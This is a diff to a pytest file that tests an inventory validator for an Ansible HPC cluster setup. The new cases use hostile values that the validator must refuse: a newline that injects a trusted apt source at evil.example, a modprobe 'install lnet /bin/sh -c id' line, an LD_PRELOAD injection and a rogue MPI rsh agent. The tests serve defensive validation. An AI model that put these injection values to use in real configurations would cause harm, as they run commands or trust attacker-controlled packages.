@@ -155,6 +155,38 @@ CASES = {
     'download cache over /var/cache': (setting('b300-02', mpi_download_dir='/var/cache'), 'mpi_download_dir on b300-02:'),
     'report directory /': (setting('b300-01', validate_report_dir='/'), 'validate_report_dir on b300-01:'),
     'RoCE config path relative': (setting('b300-02', roce_qos_config_path='roce.json'), 'roce_qos_config_path on b300-02:'),
+    # apt sources, dnf repositories and downloads: the URLs of repositories, signing keys and tarballs
+    'DOCA repository over plain HTTP': (
+        setting('b300-01', rdma_doca_repo_url='http://mirror.example.com/nvidia/doca/2.9.1/ubuntu24.04/x86_64/'),
+        "rdma_doca_repo_url on b300-01: 'http://mirror.example.com/nvidia/doca/2.9.1/ubuntu24.04/x86_64/' is plain HTTP"),
+    'DOCA signing key over plain HTTP': (
+        setting('b300-02', rdma_doca_repo_key_url='http://mirror.example.com/nvidia/doca/GPG-KEY-Mellanox.pub'),
+        "rdma_doca_repo_key_url on b300-02: 'http://mirror.example.com/nvidia/doca/GPG-KEY-Mellanox.pub' is plain HTTP"),
+    'CUDA keyring over plain HTTP': (
+        setting('b300-01', nvidia_driver_keyring_url='http://mirror.example.com/nvidia/cuda/cuda-keyring_1.1-1_all.deb'),
+        'nvidia_driver_keyring_url on b300-01: '),
+    'plain HTTP allowed for one role only': (
+        setting('b300-02', rdma_allow_http=True, nvidia_driver_repo_url='http://mirror.example.com/nvidia/cuda/'),
+        "nvidia_driver_repo_url on b300-02: 'http://mirror.example.com/nvidia/cuda/' is plain HTTP: what it serves could "
+        "be replaced on the way; use https://, or set nvidia_driver_allow_http: true"),
+    'repository URL with a newline adding a trusted source': (
+        setting('b300-01', rdma_doca_repo_url='https://mirror.example.com/doca/\ndeb [trusted=yes] http://evil.example/ ./'),
+        'rdma_doca_repo_url on b300-01: '),
+    'repository URL with a space adding apt options': (
+        setting('b300-02', nvidia_driver_repo_url='https://mirror.example.com/cuda/ / [trusted=yes]'),
+        'nvidia_driver_repo_url on b300-02: '),
+    'credentials in the CUDA repository URL': (
+        setting('b300-02', nvidia_driver_repo_url='https://admin:s3cret@mirror.example.com/nvidia/cuda/'),
+        "nvidia_driver_repo_url on b300-02: 'https://***@mirror.example.com/nvidia/cuda/' holds credentials"),
+    'HPC-X tarball over ftp': (setting('b300-01', mpi_hpcx_url='ftp://mirror.example.com/nvidia/hpcx/hpcx.tbz'),
+                               "mpi_hpcx_url on b300-01: 'ftp://mirror.example.com/nvidia/hpcx/hpcx.tbz' is not an "
+                               "https:// URL"),
+    'Open MPI tarball URL without a scheme': (
+        setting('b300-02', mpi_source_ompi_url='download.open-mpi.org/release/open-mpi/v4.1/openmpi-4.1.8.tar.bz2'),
+        'mpi_source_ompi_url on b300-02: '),
+    'local mirror URL naming another host': (setting('b300-01', rdma_doca_repo_url='file://fileserver/srv/doca/'),
+                                             "rdma_doca_repo_url on b300-01: 'file://fileserver/srv/doca/' is not a file: "
+                                             "URL of an absolute path on the node"),
     # limits.d, sysctl.d, chrony: os_base
     'open-file limit zero': (setting('b300-02', os_base_nofile=0), 'os_base on b300-02: os_base_nofile 0'),
     'memlock with a unit limits.d cannot read': (setting('b300-01', os_base_memlock='64G'), 'os_base on b300-01: os_base_memlock "64G"'),
@@ -164,7 +196,77 @@ CASES = {
                                          'os_base on b300-02: kernel parameter "swappiness" is not a sysctl name'),
     'time server with a newline adds a chrony directive': (
         setting('b300-01', os_base_ntp_servers=['ntp1.example.org\nallow all']), 'os_base on b300-01: os_base_ntp_servers[0]'),
+    # the MPI account, the validation's settings (refused before layer 1, not in layer 4)
+    'MPI jobs as root without the opt-in': (
+        lambda hv: [hv[h].update(ssh_trust_user='root') for h in NODES], 'ssh_trust_user on b300-01: \'root\' would let'),
+    'MPI account with a space': (lambda hv: [hv[h].update(ssh_trust_user='mpi user') for h in NODES],
+                                 "ssh_trust_user on b300-02: 'mpi user' is not a login name"),
+    'zero bandwidth threshold without the opt-in': (
+        setting('b300-01', validate_allreduce_min_busbw_gbs=0), 'validate on b300-01: validate_allreduce_min_busbw_gbs=0'),
+    'negative bandwidth threshold': (setting('b300-02', validate_allreduce_min_busbw_gbs=-5),
+                                     'validate on b300-02: validate_allreduce_min_busbw_gbs=-5 is below zero'),
+    'no iteration': (setting('b300-01', validate_iters=0), 'validate on b300-01: validate_iters=0 must be at least 1'),
+    'derived fraction above one': (setting('b300-02', validate_derived_fraction=1.5),
+                                   'validate on b300-02: validate_derived_fraction=1.5'),
+    # modprobe.d: LNet networks
+    'LNet network with a quote and a line break adds an install command': (
+        setting('b300-01', storage_lnet_networks=['o2ib0(ib0)"\ninstall lnet /bin/sh -c id']),
+        'storage_lnet_networks[0] on b300-01:'),
+    'LNet network of an unknown type': (setting('b300-02', storage_lnet_networks=['udp0(eth0)']),
+                                        'storage_lnet_networks[0] on b300-02:'),
+    # the MCA file and the job environment
+    'UCX device with a line break': (setting('b300-01', mpi_ucx_net_devices=['mlx5_0:1\nUCX_TLS=tcp']),
+                                     'mpi_ucx_net_devices[0] on b300-01:'),
+    'UCX device list in one entry with a ;': (
+        setting('b300-02', mpi_ucx_net_devices=['mlx5_0:1;LD_PRELOAD=/tmp/x.so']), 'mpi_ucx_net_devices[0] on b300-02:'),
+    'UCX transport with a comma': (setting('b300-01', mpi_ucx_tls=['rc,tcp', 'cuda_copy', 'cuda_ipc']),
+                                   'mpi_ucx_tls[0] on b300-01:'),
+    'MCA value with a line break sets another parameter': (
+        setting('b300-02', mpi_mca_params_extra={'btl_tcp_if_include': 'ib0\nplm_rsh_agent = /tmp/x'}),
+        'mpi_mca_params_extra on b300-02: btl_tcp_if_include:'),
+    'MCA parameter name with a space': (setting('b300-01', mpi_mca_params_extra={'btl tcp': 'x'}),
+                                        'mpi_mca_params_extra on b300-01:'),
+    'environment value with a line break': (setting('b300-01', mpi_env_extra={'NCCL_DEBUG': 'INFO\nexport X=1'}),
+                                            'mpi_env_extra.NCCL_DEBUG on b300-01:'),
+    'environment name with a trailing line break': (setting('b300-02', mpi_env_extra={'NCCL_DEBUG\n': 'INFO'}),
+                                                    'mpi_env_extra on b300-02:'),
+    # a trailing line break, which a $-anchored pattern lets through
+    'hostname with a trailing line break': (iface('b300-01', 2, hostname='b300-01-r2\n'),
+                                            'fabric_network_interfaces[2].hostname on b300-01:'),
+    'sysctl name with a trailing line break': (setting('b300-01', os_base_sysctl_extra={'vm.swappiness\n': 10}),
+                                               'os_base on b300-01: kernel parameter'),
+    # names and addresses of other inventory hosts
+    'fabric address is another node\'s management address': (
+        lambda hv: (hv['b300-02'].update(ansible_host='10.100.0.99'),
+                    hv['b300-01']['fabric_network_interfaces'][0].update(address='10.100.0.99/24')),
+        'fabric_network_interfaces[0].address on b300-01: 10.100.0.99 is already used by b300-02 (ansible_host)'),
+    # misspelt settings, which the roles would ignore
+    'misspelt MTU variable': (setting('b300-01', fabric_network_mtus=4200),
+                              'fabric_network_mtus on b300-01: no hpcfabric.cluster role has this variable (did you mean '
+                              'fabric_network_mtu?)'),
+    'misspelt slots variable': (setting('b300-02', mpi_hostfile_slot=4), 'mpi_hostfile_slot on b300-02:'),
 }
+
+
+def test_plain_http_passes_where_each_role_allows_it():
+    hostvars = example_hostvars()
+    for host in NODES:
+        hostvars[host].update(
+            rdma_allow_http=True, rdma_doca_repo_url='http://mirror.cluster.internal/doca/2.9.1/ubuntu24.04/x86_64/',
+            rdma_doca_repo_key_url='http://mirror.cluster.internal/doca/GPG-KEY-Mellanox.pub',
+            nvidia_driver_allow_http=True, nvidia_driver_repo_url='http://mirror.cluster.internal:8080/cuda/',
+            mpi_allow_http=True, mpi_hpcx_url='http://mirror.cluster.internal/hpcx/hpcx-v2.22.tbz')
+    assert problems_of(hostvars) == []
+    # the allowance is each node's own
+    hostvars['b300-02']['mpi_allow_http'] = False
+    assert [p.split(':')[0] for p in problems_of(hostvars)] == ['mpi_hpcx_url on b300-02']
+
+
+def test_a_password_in_a_url_never_reaches_a_message():
+    hostvars = example_hostvars()
+    hostvars['b300-01']['mpi_hpcx_url'] = 'https://svc:s3cret@mirror.example.com/hpcx.tbz'
+    problems = problems_of(hostvars)
+    assert problems and not [p for p in problems if 's3cret' in p]
 
 
 @pytest.mark.parametrize('name', sorted(CASES))
@@ -174,3 +276,28 @@ def test_a_hostile_value_is_refused_naming_variable_and_host(name):
     mutate(hostvars)
     problems = problems_of(hostvars)
     assert any(expected in p for p in problems), problems
+
+
+@pytest.mark.parametrize('values', [
+    {'ssh_trust_user': 'root', 'ssh_trust_allow_root': True},
+    {'validate_allreduce_min_busbw_gbs': 0, 'validate_allow_zero_threshold': True},
+    {'storage_lnet_networks': ['tcp1(eth0,eth1)[0,1]']},
+    {'mpi_ucx_net_devices': ['mlx5_0:1', 'mlx5_1:1'], 'mpi_mca_params_extra': {'btl': '^openib,tcp'}},
+], ids=['root opted in', 'zero threshold opted in', 'LNet with CPTs', 'UCX devices and MCA'])
+def test_what_an_opt_in_or_a_good_value_allows_passes(values):
+    hostvars = example_hostvars()
+    for host in NODES:
+        hostvars[host].update(values)
+    assert problems_of(hostvars) == []
+
+
+def test_a_fabric_name_or_address_of_another_inventory_host_is_refused():
+    """A switch's name as a node's fabric name would send the node's peers to the switch; its address likewise."""
+    hostvars = example_hostvars()
+    hostvars['leaf01'] = {'ansible_host': '10.100.3.254', 'switch_qos_platform': 'cumulus', 'switch_qos_ports': ['swp1']}
+    hostvars['b300-01']['fabric_network_interfaces'][0]['hostname'] = 'leaf01'
+    hostvars['b300-02']['fabric_network_interfaces'][3]['address'] = '10.100.3.254/24'
+    problems = inventory_problems(hostvars, NODES, ['leaf01'], NODE_ROLES, ['switch_qos'])['cluster_model']
+    assert 'fabric_network_interfaces[0] on b300-01: fabric hostname leaf01 is already used by leaf01' in problems
+    assert 'fabric_network_interfaces[3].address on b300-02: 10.100.3.254 is already used by leaf01 (ansible_host)' \
+        in problems
